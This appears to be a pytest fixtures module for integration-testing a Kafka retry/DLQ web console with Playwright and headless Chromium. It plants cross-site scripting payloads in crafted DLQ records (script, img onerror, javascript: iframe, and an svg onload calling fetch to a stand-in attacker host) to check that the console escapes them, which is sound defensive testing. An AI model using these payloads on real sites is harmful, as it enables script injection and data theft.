"""The console's integration fixtures: a pipeline a real RetryApp ran (with two crafted DLQ records), the
console serving it with actions on (uvicorn in a thread), and a headless chromium driven by Playwright (Debian's
browser, never a downloaded one); one of each per test module. Helpers read topics back independently."""

from __future__ import annotations

import os
import shutil
import threading
import time
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from retrytopics import NonRetryable, Record, RetryApp, RetryPolicy
from retrytopics.connectors.admin import TopicSpec, ensure_topics
from retrytopics.connectors.broker_process import free_port
from retrytopics.connectors.config import KafkaConfig
from retrytopics.connectors.kafka import make_admin, make_producer
from retrytopics.connectors.ranges import partition_bounds, range_reader, read_range
from retrytopics.core.headers import REPLAY_ID, DlqReason, RetryHeaders, encode

ROOT = Path(__file__).resolve().parents[3]
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
TOKEN = "console-test-token-0123456789"
XSS_KEY = "<script>alert('key')</script>"
XSS_HEADER = '"><img src=x onerror="alert(\'header\')">'
XSS_MESSAGE = "<svg onload=\"fetch('http://attacker.invalid/x')\"></svg> password=hunter2"
XSS_VALUE = b"<iframe src=\"javascript:alert('value')\"></iframe>"
SCREENSHOTS = os.environ.get("RETRYTOPICS_SCREENSHOTS") == "1"


def wait_until(predicate: Callable[[], Any], timeout_s: float, what: str) -> Any:
    deadline = time.monotonic() + timeout_s
    while not (value := predicate()):
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out after {timeout_s}s waiting for {what}")
        time.sleep(0.1)
    return value


def read_topic(kafka: KafkaConfig, topic: str) -> list[Any]:
    """Every record of `topic`, read back independently of the console."""
    consumer = range_reader(kafka)
    try:
        out = []
        for partition, (low, high) in (partition_bounds(consumer, topic) or {}).items():
            out += read_range(consumer, topic, partition, low, high)
        return out
    finally:
        consumer.close()


def end_offsets(kafka: KafkaConfig, topic: str) -> int:
    consumer = range_reader(kafka)
    try:
        return sum(high for _, high in (partition_bounds(consumer, topic) or {}).values())
    finally:
        consumer.close()


class Pipeline:
    def __init__(self, kafka: KafkaConfig) -> None:
        uid = f"{os.getpid()}-{uuid.uuid4().hex[:6]}"
        self.kafka = kafka
        self.source, self.group = f"console-orders-{uid}", f"console-billing-{uid}"
        self.app = RetryApp(
            kafka=kafka, group=self.group, consumer_overrides={"session.timeout.ms": 6000, "heartbeat.interval.ms": 500}
        )

    def dlq_records(self) -> list[Any]:
        return read_topic(self.kafka, self.app.topics(self.source).dlq)


@pytest.fixture(scope="module")
def pipeline(kafka: KafkaConfig) -> Iterator[Pipeline]:
    """A source of 12 records handled by a real app: 4 succeed, 3 fail once (recovered in tier 1), 3 always
    time out (tier 1 -> tier 2 -> DLQ, exhausted), 2 are non-retryable; then two crafted DLQ records: one
    carrying HTML and script everywhere, one with a `trace-id` header."""
    p = Pipeline(kafka)
    ensure_topics(make_admin(kafka), [TopicSpec(name=p.source, partitions=2)])
    calls: Counter[bytes] = Counter()
    lock = threading.Lock()

    @p.app.handler(p.source, policy=RetryPolicy(delays=["200ms", "400ms"]))
    def handle(record: Record[bytes]) -> None:
        with lock:
            calls[record.value] += 1
            seen = calls[record.value]
        if record.value.startswith(b"flaky") and seen == 1:
            raise RuntimeError("flaky the first time")
        if record.value.startswith(b"broken"):
            raise TimeoutError("gateway timed out")
        if record.value.startswith(b"bad"):
            raise NonRetryable(ValueError("bad order"))

    p.app.provision()
    producer = make_producer(kafka)
    values = [b"ok-%d" % i for i in range(4)] + [b"flaky-%d" % i for i in range(3)]
    values += [b"broken-%d" % i for i in range(3)] + [b"bad-%d" % i for i in range(2)]
    for i, value in enumerate(values):
        producer.produce(p.source, key=b"k-%d" % i, value=value)
    assert producer.flush(30) == 0
    p.app.start(tiers="all")
    try:
        wait_until(lambda: len(p.dlq_records()) == 5, 90, "3 exhausted and 2 non-retryable records in the DLQ")
        wait_until(lambda: sum(calls.values()) == 4 + 3 * 2 + 3 * 3 + 2, 30, "every handler call")
    finally:
        assert p.app.stop()
    crafted = {
        "reconsume_times": 1,
        "original_topic": p.source,
        "original_partition": 0,
        "original_offset": 10_000,
        "original_timestamp": -1,
        "consumer_group": p.group,
        "tier": None,
        "due_at": None,
        "first_failed_at": 1_700_000_000_000,
        "last_failed_at": 1_700_000_000_000,
        "exception_trace": "Traceback: " + XSS_MESSAGE,
        "dlq_reason": DlqReason.NON_RETRYABLE,
    }
    evil = RetryHeaders(
        origin_message_id="evil-1", exception_type="<b>evil.Type</b>", exception_message=XSS_MESSAGE, **crafted
    )  # type: ignore[arg-type]
    crafted["original_offset"] = 10_001  # another source record than evil-1's
    traced = RetryHeaders(
        origin_message_id="traced-1", exception_type="builtins.KeyError", exception_message="k", **crafted
    )  # type: ignore[arg-type]
    dlq = p.app.topics(p.source).dlq
    producer.produce(
        dlq,
        key=XSS_KEY.encode(),
        value=XSS_VALUE,
        partition=0,
        headers=[("x-note", XSS_HEADER.encode()), *encode(evil)],
    )
    producer.produce(dlq, key=b"k-traced", value=b"{}", partition=1, headers=[("trace-id", b"abc"), *encode(traced)])
    assert producer.flush(30) == 0
    yield p


@pytest.fixture(scope="module")
def console(pipeline: Pipeline) -> Iterator[str]:
    """The console with actions on, served by uvicorn in a thread; its base URL."""
    from retrytopics.console.reader import PipelineReader
    from retrytopics.console.web import ConsoleOptions, create_app
    from retrytopics.operator.config import AppSettings
    from retrytopics.operator.ops import pipeline_topics

    settings = AppSettings(topic=pipeline.source, group=pipeline.group, delays=("200ms", "400ms"))
    reader = PipelineReader(kafka=pipeline.kafka, pipeline=settings, topics=pipeline_topics(settings))
    reader.start_tally()
    port = free_port()
    import uvicorn

    server = uvicorn.Server(
        uvicorn.Config(
            create_app(ConsoleOptions(actions=True, token=TOKEN), reader),
            host="127.0.0.1",
            port=port,
            log_level="warning",
            log_config=None,
        )
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    wait_until(lambda: server.started, 30, "the console to listen")
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join(10)
    reader.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not os.path.exists(CHROMIUM):
        pytest.fail("chromium is not installed: run scripts/setup.sh (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as driver:
        launched = driver.chromium.launch(executable_path=CHROMIUM, headless=True)
        yield launched
        launched.close()


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    yield context.new_page()
    context.close()


def shot(page: Any, name: str) -> None:
    if SCREENSHOTS:
        (ROOT / "docs" / "images").mkdir(exist_ok=True)
        page.screenshot(path=str(ROOT / "docs" / "images" / f"console-{name}.png"), full_page=True)


def log_in(page: Any, console: str, operator: str) -> None:
    page.goto(console + "/login")
    page.fill("input[name=operator]", operator)
    page.fill("input[name=token]", TOKEN)
    page.click("#login")
    page.wait_for_url("**/dlq")


def written_by_the_replay_shown(page: Any, kafka: KafkaConfig, topic: str) -> list[Any]:
    """The records of `topic` that carry the replay id the page shows."""
    replay_id = (REPLAY_ID, page.text_content("#replay-id").encode())
    return [m for m in read_topic(kafka, topic) if replay_id in (m.headers() or [])]


def shown_coordinates(page: Any) -> set[str]:
    return set(page.eval_on_selector_all("tr.record", "rows => rows.map(r => r.dataset.coordinates)"))
